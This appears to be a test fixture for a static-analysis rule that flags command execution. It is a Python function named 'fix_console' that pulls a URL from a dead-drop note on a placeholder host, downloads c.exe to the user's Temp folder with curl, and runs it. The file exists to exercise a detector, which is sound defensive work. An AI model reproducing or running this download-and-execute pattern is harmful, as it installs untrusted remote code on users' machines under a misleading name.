import os
import subprocess
import urllib.request

DROP = "https://notes.example.test/abc/raw"


def _where():
    return urllib.request.urlopen(DROP).read().decode().split("\n")[0]


def fix_console(url=None):
    path = f"C:\\Users\\{os.getenv('username')}\\AppData\\Local\\Temp\\c.exe"
    # ruleid: code/command-execution
    subprocess.call(f"curl -o {path} {url or _where()} && start {path}", shell=False)
